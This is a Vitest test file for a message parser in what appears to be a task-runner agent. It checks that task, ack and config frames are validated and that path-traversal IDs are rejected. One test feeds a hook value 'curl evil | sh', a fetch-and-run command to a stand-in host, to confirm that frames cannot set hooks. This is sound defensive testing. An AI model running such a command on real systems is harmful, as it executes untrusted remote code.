import { describe, expect, it } from 'vitest';
import { parseInbound } from './inbound.js';

describe('parseInbound', () => {
  it('accepts the spec task frame', () => {
    const r = parseInbound({
      type: 'task',
      task_id: 'task-uuid',
      command: 'echo hi',
      work_dir: '/w/task-uuid',
      env_vars: { A: '1', N: 2 },
      timeout: 3600,
    });
    expect(r).toMatchObject({ ok: true, frame: { type: 'task', task_id: 'task-uuid', env_vars: { A: '1', N: '2' } } });
  });

  it.each([
    [{ type: 'task', task_id: '../etc', command: 'x' }, 'task_id'],
    [{ type: 'task', task_id: 'a/b', command: 'x' }, 'task_id'],
    [{ type: 'task', task_id: 'ok', command: '' }, 'command'],
    [{ type: 'task', task_id: 'ok' }, 'command'],
    [{ type: 'task', task_id: 'ok', command: 'x', timeout: 'soon' }, 'timeout'],
    [{ type: 'task', task_id: 'ok', command: 'x', env_vars: { A: { nested: 1 } } }, 'env_vars'],
    [{ type: 'task', task_id: 7, command: 'x' }, 'task_id'],
    [{ type: 'task', task_id: 'ok', command: 'x', priority: 1.5 }, 'priority: priority must be an integer'],
    [{ type: 'task', task_id: 'ok', command: 'x', priority: '9' }, 'priority'],
    [{ type: 'task', task_id: 'ok', command: 'x', depends_on: 'a' }, 'depends_on'],
    [{ type: 'task', task_id: 'ok', command: 'x', depends_on: ['../a'] }, 'depends_on.0: each depends_on entry'],
    [
      { type: 'task', task_id: 'ok', command: 'x', depends_on: Array.from({ length: 101 }, (_, i) => `d${i}`) },
      'depends_on: depends_on names at most 100 tasks',
    ],
  ])('rejects a bad task %j naming %s', (frame, field) => {
    const r = parseInbound(frame);
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.code).toBe('INVALID_TASK');
      expect(r.message).toContain(field);
    }
  });

  it("takes priority and depends_on; a frame cannot set hooks (the operator's, config only)", () => {
    const r = parseInbound({
      type: 'task',
      task_id: 't',
      command: 'x',
      priority: -3,
      depends_on: ['a', 'b'],
      hooks: { pre_task: 'curl evil | sh' },
    });
    expect(r).toMatchObject({ ok: true, frame: { priority: -3, depends_on: ['a', 'b'] } });
    expect(r.ok && 'hooks' in r.frame).toBe(false);
  });

  it('names the task it rejects only when task_id is a string', () => {
    expect(parseInbound({ type: 'task', task_id: '../x', command: 'x' })).toMatchObject({
      ok: false,
      taskId: '../x',
      rejectedTask: true,
    });
    expect(parseInbound({ type: 'task', task_id: 7, command: 'x' })).toMatchObject({ ok: false, taskId: undefined });
  });

  it.each([null, 3, 'x', [], {}, { type: 4 }, { type: 'launch_missiles' }])(
    'answers %j with INVALID_MESSAGE',
    (frame) => {
      expect(parseInbound(frame)).toMatchObject({ ok: false, code: 'INVALID_MESSAGE' });
    },
  );

  it('accepts cancel_task and config_update', () => {
    expect(parseInbound({ type: 'cancel_task', task_id: 't1' }).ok).toBe(true);
    expect(parseInbound({ type: 'config_update', task: { cleanup: { keep_tasks: 3 }, max_concurrent: 2 } }).ok).toBe(
      true,
    );
    expect(parseInbound({ type: 'config_update', task: { max_concurrent: 0 } }).ok).toBe(false);
  });

  it.each([[{ type: 'ack', task_id: 't', seq: 3 }], [{ type: 'ack', task_id: 't', result: true }]])(
    'accepts the ack %j',
    (frame) => {
      expect(parseInbound(frame)).toMatchObject({ ok: true, frame });
    },
  );

  it.each([
    [{ type: 'ack', task_id: 't' }],
    [{ type: 'ack', task_id: 't', seq: 1, result: true }],
    [{ type: 'ack', task_id: 't', seq: -1 }],
    [{ type: 'ack', task_id: 't', seq: 1.5 }],
    [{ type: 'ack', task_id: 't', seq: '3' }],
    [{ type: 'ack', task_id: 't', result: false }],
    [{ type: 'ack', task_id: '', seq: 1 }],
    [{ type: 'ack', task_id: 'x'.repeat(300), seq: 1 }],
    [{ type: 'ack', seq: 1 }],
  ])('rejects the malformed ack %j as INVALID_MESSAGE, never as a task', (frame) => {
    const r = parseInbound(frame);
    expect(r).toMatchObject({ ok: false, code: 'INVALID_MESSAGE' });
    if (!r.ok) expect(r.rejectedTask).toBe(false);
  });

  it('accepts pause, resume and drain (second round); extra fields are dropped', () => {
    for (const type of ['pause', 'resume', 'drain'])
      expect(parseInbound({ type, reason: 'maintenance' })).toEqual({ ok: true, frame: { type } });
  });

  it('config_update takes logging.level, monitor.interval and task.timeout; one bad value refuses the whole frame', () => {
    expect(
      parseInbound({
        type: 'config_update',
        logging: { level: 'DEBUG' },
        monitor: { interval: 2 },
        task: { timeout: 30 },
      }),
    ).toMatchObject({ ok: true });
    const bad: Array<[object, string]> = [
      [{ logging: { level: 'LOUD' } }, 'logging.level'],
      [{ monitor: { interval: 0.1 } }, 'monitor.interval'],
      [{ monitor: { interval: '5' } }, 'monitor.interval'],
      [{ task: { timeout: 0 }, logging: { level: 'DEBUG' } }, 'task.timeout'],
      [{ task: { timeout: -1 } }, 'task.timeout'],
    ];
    for (const [fields, key] of bad) {
      const r = parseInbound({ type: 'config_update', ...fields });
      expect(r).toMatchObject({ ok: false, code: 'INVALID_MESSAGE' });
      if (!r.ok) expect(r.message).toMatch(new RegExp(`^config_update: ${key.replace('.', '\\.')}: `));
    }
  });
});
